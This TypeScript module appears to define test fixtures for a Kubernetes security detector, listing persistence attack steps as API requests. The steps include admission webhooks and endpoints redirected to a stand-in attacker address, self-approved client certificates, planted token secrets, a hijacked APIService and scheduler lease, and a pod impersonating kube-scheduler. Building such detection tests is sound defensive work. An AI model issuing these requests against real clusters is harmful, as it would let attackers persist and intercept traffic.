import { asks, attack } from '../ask.ts';
import { admission, apiService, certificateRequest, goodSpec, named, service, webhookConfiguration } from '../objects.ts';
import { certificates } from '../places.ts';
import { type AttackStep, clients } from '../step.ts';

const ivo = asks('ivo', clients.kubectl);
const dana = asks('dana', clients.kubectl);
const longhorn = asks('longhorn', clients.curl);
const payments = '/api/v1/namespaces/payments';
const system = '/api/v1/namespaces/kube-system';
const webhook = (kind: 'Mutating' | 'Validating', name: string, url: string): object =>
  webhookConfiguration(kind, name, {
    name: 'hook.harbourtools.example',
    failurePolicy: 'Ignore',
    clientConfig: { url },
    rules: [{ apiGroups: ['payments.example'], apiVersions: ['v1'], operations: ['*'], resources: ['*'] }],
  });
const request = (name: string, csr: string, signerName: string, usages: readonly string[]): object =>
  certificateRequest(name, csr, signerName, usages, { expirationSeconds: 31_536_000 });
const client = 'kubernetes.io/kube-apiserver-client';
const approved = { status: { conditions: [{ type: 'Approved', status: 'True', reason: 'KubectlApprove', message: 'by hand' }] } };

/** Staying. */
export const stayingSteps: readonly AttackStep[] = attack(
  'persistence',
  [
    'PS02',
    ivo.apply(
      'webhook by applying',
      `${admission}/mutatingwebhookconfigurations/pod-defaults`,
      webhook('Mutating', 'pod-defaults', 'https://203.0.113.50/m'),
    ),
  ],
  [
    'PS02',
    ivo.post(
      'webhook that sees objects',
      `${admission}/validatingwebhookconfigurations`,
      webhook('Validating', 'audit-helper', 'https://203.0.113.50/v'),
    ),
  ],
  [
    'PS02',
    ivo.json('webhook led elsewhere', `${admission}/mutatingwebhookconfigurations/sidecars`, [
      { op: 'replace', path: '/webhooks/0/clientConfig/url', value: 'https://203.0.113.50/m' },
    ]),
  ],
  [
    'PS02',
    longhorn.post(
      'webhook by an operator',
      `${admission}/mutatingwebhookconfigurations`,
      webhook('Mutating', 'lh-hook', 'https://203.0.113.50/l'),
    ),
  ],
  [
    'N21 PS02',
    ivo.post('policy that changes pods', `${admission}/mutatingadmissionpolicies`, {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'MutatingAdmissionPolicy',
      metadata: { name: 'defaults' },
      spec: {
        reinvocationPolicy: 'Never',
        matchConstraints: {
          resourceRules: [
            { apiGroups: ['payments.example'], apiVersions: ['v1'], operations: ['CREATE'], resources: ['things'] },
          ],
        },
        mutations: [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression: 'Object{}' } }],
      },
    }),
  ],
  [
    'PS03 PS05 PS06',
    ivo.post(
      'certificate for a controller',
      certificates,
      request('kcm', 'CSR-FOR-CONTROLLER', client, ['client auth', 'digital signature']),
    ),
  ],
  [
    'PS03 PS05 PS06 EX16',
    dana.post('certificate for administrators', certificates, request('adm', 'CSR-FOR-KUBEADM', client, ['client auth'])),
  ],
  [
    'PS03 PS06 PS04',
    ivo.post('certificate for a friend', certificates, request('friend', 'CSR-FOR-FRIEND', client, ['client auth'])),
  ],
  [
    'PS03 PS04',
    ivo.put('certificate approved by who asked', `${certificates}/friend/approval`, {
      ...request('friend', 'CSR-FOR-FRIEND', client, ['client auth']),
      ...approved,
    }),
  ],
  [
    'PS03 PS05 EX16',
    dana.post(
      'certificate of a node',
      certificates,
      request('node', 'CSR-FOR-NODE', 'kubernetes.io/kube-apiserver-client-kubelet', ['client auth', 'digital signature']),
    ),
  ],
  [
    'PS09',
    ivo.post('account among those of the system', `${system}/serviceaccounts`, named('ServiceAccount', 'coredns-autoscaler')),
  ],
  [
    'PS08',
    dana.post('secret that receives a token', `${payments}/secrets`, {
      ...named('Secret', 'checkout-api-token-x8f2k', { annotations: { 'kubernetes.io/service-account.name': 'checkout-api' } }),
      type: 'kubernetes.io/service-account-token',
    }),
  ],
  ['PS12', dana.merge('service opened on every node', `${payments}/services/checkout`, { spec: { type: 'NodePort' } })],
  [
    'PS12 PS18',
    dana.apply('service opened to the world', `${payments}/services/admin`, service('admin', { type: 'LoadBalancer' })),
  ],
  ['PS13', dana.merge('service takes an address', `${payments}/services/checkout`, { spec: { externalIPs: ['192.0.2.77'] } })],
  [
    'LM03',
    ivo.post('endpoints led elsewhere', `${payments}/endpoints`, {
      ...named('Endpoints', 'checkout2'),
      subsets: [{ addresses: [{ ip: '203.0.113.50' }], ports: [{ port: 443 }] }],
    }),
  ],
  [
    'LM03',
    ivo.json('slice led elsewhere', '/apis/discovery.k8s.io/v1/namespaces/payments/endpointslices/checkout-1', [
      { op: 'replace', path: '/endpoints/0/addresses', value: ['203.0.113.50'] },
    ]),
  ],
  [
    'N28',
    dana.merge('snippet for the ingress controller', '/apis/networking.k8s.io/v1/namespaces/payments/ingresses/shop', {
      metadata: { annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'location /x { content_by_lua_block {} }' } },
    }),
  ],
  [
    'N22',
    ivo.apply(
      'API taken over',
      '/apis/apiregistration.k8s.io/v1/apiservices/v1beta1.metrics.k8s.io',
      apiService('metrics.k8s.io', 'v1beta1', { insecureSkipTLSVerify: true, service: { name: 'x', namespace: 'payments' } }),
    ),
  ],
  [
    'N22',
    ivo.merge('conversion of a kind led elsewhere', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/backups.velero.io', {
      spec: {
        conversion: {
          strategy: 'Webhook',
          webhook: { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://203.0.113.50/c' } },
        },
      },
    }),
  ],
  ['IA15', ivo.post('machine that is none', '/api/v1/nodes', named('Node', 'worker-77'))],
  [
    'EX33 EX20',
    ivo.merge('delivery changed by hand', '/apis/apps/v1/namespaces/payments/deployments/delivered', {
      metadata: { annotations: { x: 'y' } },
      spec: { template: { spec: { containers: [{ name: 'main', image: 'docker.io/harbourtools/web:1' }] } } },
    }),
  ],
  [
    'IM13',
    ivo.json('priority of the own requests', '/apis/flowcontrol.apiserver.k8s.io/v1/flowschemas/service-accounts', [
      { op: 'replace', path: '/spec/matchingPrecedence', value: 100 },
    ]),
  ],
  [
    'DE07',
    ivo.merge('leadership of the scheduler taken', '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler', {
      spec: { holderIdentity: 'somebody-else' },
    }),
  ],
  [
    'N30 EX14',
    dana.post('pod that looks like the system', `${payments}/pods`, {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'kube-scheduler-cp-1' },
      spec: goodSpec(),
    }),
  ],
);
